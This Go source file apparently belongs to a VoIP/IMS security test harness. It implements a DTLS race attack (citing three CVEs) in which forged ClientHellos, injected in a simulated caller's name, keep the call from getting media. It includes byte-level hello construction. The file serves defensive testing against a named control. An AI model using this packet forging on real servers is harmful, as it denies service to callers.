package attack

import (
	"context"
	"fmt"
	"io"
	"time"

	"imsafe/client/ue"
	"imsafe/secure"
)

// dtlsRace: an end that holds on to the first hello never hears the true one.
func dtlsRace() Attack {
	return Attack{
		ID: "cs.dtls.race", Number: "CS-04", Title: "forged ClientHellos before the true one",
		Text:     "a packet with a forged address would keep a call from ever having media",
		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption}, Module: ServicesUser,
		Source: "CVE-2023-49786, CVE-2023-51443, CVE-2023-51275", Access: []Access{TLS}, Media: true,
		Bounds:   Bounds{Packets: 60, Bytes: 60_000, Conns: 2, Time: 12 * time.Second, Wait: 9 * time.Second},
		Variants: []Variant{{Position: OnPath, Run: race, Controls: []secure.ControlID{secure.CSAvailabilityDTLSConsent}}},
	}
}

// race sends twenty hellos in carol's name, from her address, before hers.
func race(ctx context.Context, f *Field, o *Outcome) error {
	const hellos = 20
	forged := 0
	carol, _, err := f.overtakenParty(ctx, Carol, func(write func([]byte) error) error {
		for forged < hellos {
			hello, err := f.forgedHello()
			if err == nil {
				err = write(hello)
			}
			if err != nil {
				return err
			}
			forged++
		}
		return nil
	})
	if err != nil {
		return err
	}
	out, err := carol.UE.Call(ctx, f.Bob.IMPU, ue.Voice{})
	if err != nil {
		return fmt.Errorf("carol cannot call: %w", err)
	}
	defer out.Hangup()
	in, err := f.Bob.Rung(ctx)
	if err != nil {
		return err
	}
	defer in.Hangup()
	in.Answer(ue.Voice{})
	const patience = 8 * time.Second
	err = within(ctx, patience, func(ctx context.Context) error {
		_, err := out.Until(ctx, ue.Secured)
		return err
	})
	o.Arrived("%d forged hellos stood before carol's", forged)
	o.Wire(false, "%d hellos that begin nothing", forged)
	if err != nil {
		o.Users = 2
		o.Peer(true, "carol has no media after %v: %v", patience, err)
		return nil
	}
	o.Peer(false, "carol has media")
	return attackOver(Part(ctx, out, in))
}

// forgedHello is a ClientHello of DTLS 1.2 that is well formed enough for a server to begin with (RFC 6347 4.2.2).
func (f *Field) forgedHello() ([]byte, error) {
	body := make([]byte, 34, 64)
	body[0], body[1] = 0xfe, 0xfd
	if _, err := io.ReadFull(f.Random, body[2:]); err != nil {
		return nil, err
	}
	body = append(body, 0, 0, 0, 2, 0xc0, 0x2b, 1, 0) // no session, no cookie, one cipher suite
	n := byte(len(body))
	handshake := append([]byte{1, 0, 0, n, 0, 0, 0, 0, 0, 0, 0, n}, body...)
	return append([]byte{22, 0xfe, 0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0, byte(len(handshake))}, handshake...), nil
}
